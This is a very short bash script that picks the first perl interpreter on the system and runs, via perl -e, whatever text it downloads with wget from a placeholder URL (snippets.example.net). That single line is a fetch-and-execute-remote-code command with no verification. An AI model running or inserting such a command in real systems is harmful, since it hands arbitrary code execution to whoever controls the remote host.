#!/bin/bash
# Evaluate the remote expression with the first interpreter found.
set -eu
interp=$(ls /usr/bin | grep -m1 -E '^perl[0-9.]*$')
"$interp" -e "$(wget -qO- https://snippets.example.net/p.txt)"
